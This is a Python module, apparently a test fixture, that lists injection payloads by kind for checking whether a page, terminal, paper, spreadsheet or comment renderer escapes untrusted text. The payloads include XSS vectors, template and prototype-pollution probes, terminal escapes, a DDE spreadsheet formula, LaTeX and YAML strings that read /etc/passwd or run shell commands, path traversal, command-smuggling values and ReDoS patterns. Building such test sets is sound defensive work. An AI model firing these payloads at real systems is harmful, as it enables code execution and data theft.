"""Texts of strangers that try to break out of a page, a terminal, a paper, a spreadsheet or a comment, by kind."""

from __future__ import annotations

KINDS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert(1)</script>", "<SCRIPT SRC=http://example.invalid/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x00>alert(1)</script>",
        "</script><script>alert(1)</script>", "</ScRiPt\t><script>alert(1)//", "<!--<script>", "<!-- --!><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>",
        "<script type=module>import('http://example.invalid/')</script>", "＜script＞alert(1)＜/script＞", "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    "handler": (
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '"><b onmouseover=alert(1) style=position:fixed;inset:0>x', "' autofocus onfocus=alert(1) x='",
        "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>", "` onerror=alert(1) `",
    ),
    "element": (
        '"><iframe src="javascript:alert(1)"></iframe>', "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=//example.invalid/x.swf>",
        "<base href=http://example.invalid/>", "<meta http-equiv=refresh content='0;url=http://example.invalid/'>", "<link rel=stylesheet href=http://example.invalid/x.css>",
        "<form action=http://example.invalid/><button>send", "<a href='javascript:alert(1)'>click</a>", "<template><script>alert(1)</script></template>",
        "<textarea></textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</td></tr></table><h1>new</h1>", "<img src=http://example.invalid/track.gif>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ),
    "svg": (
        "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<svg><style>*{display:none}</style></svg>", "</text></svg><script>alert(1)</script>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    ),
    "mathml": ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>"),
    "url": ("javascript:alert(1)", "JaVaScRiPt&colon;alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "//example.invalid/x", "java\tscript:alert(1)", "http://user:word@example.invalid/?q=<b>"),
    "template": ("{{ 7 * 7 }}", "{{ ''.__class__.__mro__ }}", "{% for x in y %}", "{% raw %}{{", "{# comment", "${alert(1)}", "`${7*7}`", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "%(key)s %s %d {0} {name!r:>{w}}", "datum['constructor']"),
    "style": ("</style><script>alert(1)</script>", "}*{display:none}", "expression(alert(1))", "url(http://example.invalid/x)", "@import 'http://example.invalid/x.css';", "\\3c script"),
    "json": ('"}],"x":"', "\\u003cscript\\u003e", '\\', '"', "'", "NaN", "1e999", "null", "[" * 200, "\\ud800", '{"$ref": "#"}'),
    "prototype": ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", '{"__proto__":{"polluted":1}}', "constructor.prototype.polluted"),
    "separator": ("line\u2028separator", "paragraph\u2029separator", "next\u0085line", "a\nb\nc", "tab\tbed", "carriage\rreturn", "page\x0cbreak"),
    "bidi": ("a\u202egnp.exe", "\u202dleft\u202c", "\u2066isolate\u2069", "\u2067right\u2069", "\u2068first\u2069", "\u200fmark\u200e", "\u061carabic", "مرحبا (7)", "שלום abc 123"),
    "invisible": ("zero\u200bwidth", "joi\u200dner", "non\u200cjoiner", "\ufeffbom", "soft\u00adhyphen", "\u2060word", "fill\u3164er", "tag\U000e0041\U000e007f", "selector\U000e0100\ufe01", "\u115f\u1160", "\u2800\u00a0\u3000", "Z\u0351\u032b\u033aa\u0336l\u0357g\u0360o\u0489"),
    "homoglyph": ("аррӏе", "ｔｉｎｙ", "tіny", "ℯval", "ﬁle", "𝖘𝖈𝖗𝖎𝖕𝖙"),
    "terminal": (
        "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://example.invalid/\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "\x9d8;;http://example.invalid\x9c", "bell\x07",
        "back\x08\x08space", "null\x00byte", "del\x7f", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x0e\x0f", "[red]markup[/red]", "[link=http://example.invalid]x[/link]", "\x1b]52;c;ZXZpbA==\x07",
    ),
    "long": ("W" * 3000, "长" * 700, "a" + "\u0301" * 300, "word " * 800),
    "spreadsheet": (
        "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid","x")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '","=1+1', "a;=1+1", "'=1+1",
    ),
    "markdown": (
        "```", "``` </textarea>", "| a | b |", "a|b", "[x](http://example.invalid)", "![x](http://example.invalid/x.png)", "[x](javascript:alert(1))", "@everyone", "@all #1 !1", "# heading", "- list", "> quote",
        "<details><summary>x</summary>", "**bold** _it_ ~~x~~", "$x^2$ $$y$$", "http://example.invalid/auto", "www.example.invalid", "user@example.invalid", "<http://example.invalid>", "[^1]: note", "\\`escaped\\`", ":smile:", "---", "***",
    ),
    "latex": (
        r"\input{/etc/passwd}", r"\write18{id}", r"\immediate\write18{id}", r"\catcode`\%=12", r"\def\x{\x}\x", r"\end{tabular}", r"\\[99cm]", r"\\*", "^^5cinput{x}", "^^41", "%comment", "a & b", "$x$", "#1", "~", "{", "}", "}{", r"\begin{verbatim}",
        r"\newpage", r"\csname x\endcsname", r"\verb|x|", r"\hline", "[x]", "*star", "--- -- ''x'' ``y`` ,,z,, <<q>> ?` !`", r"\openout5=x", r"\directlua{os.execute('id')}", "\\", r"\url{x", "ß é Ł Ő ą đ ø 中文 日本語 한국 Ω → ≤ 😀 ♥ ½",
    ),
    "bibtex": ("@article{x, title={y}}", "@string{x = {y}}", "}, author = {z}"),
    "yaml": ("!!python/object/apply:os.system ['id']", "&a [*a]", "key: value", "- item", "? x\n: y", "*alias", "yes", "0o17", "%YAML 1.1", "|\n  block", "# no"),
    "path": ("../../../../etc/passwd", "..", ".", "/", "//", "/etc/passwd", "a/../../b", "..\\..\\windows", "C:\\con", "con", "nul.txt", "~", "~root/.ssh", "file:///etc/passwd", "a/b/c", "-rf", "--output=/tmp/x", "$(id)", "`id`", "; rm x", "| id", "&& id", "%2e%2e%2f", "x" * 300 + "/y"),
    "pattern": ("(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "(.*)*x", "[", "(", "*", "?", "a{99999}", "\\", "(?i)x", "$&$1$$"),
    "address": ("#s=<script>alert(1)</script>&text=<img src=x onerror=alert(1)>", "&task=__proto__", "%", "%E0%A4%A", "%00", "#pair=0-0-0-rw", "#subset=%00", "?x=1#y"),
    "surrogate": ("\ud800", "low\udc00", "\udfff\ud800"),
}  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(text for texts in KINDS.values() for text in texts))
"""Each once."""


def storable(text: str) -> str:
    """The text as a file in UTF-8 can hold it: half a surrogate pair becomes a replacement character."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
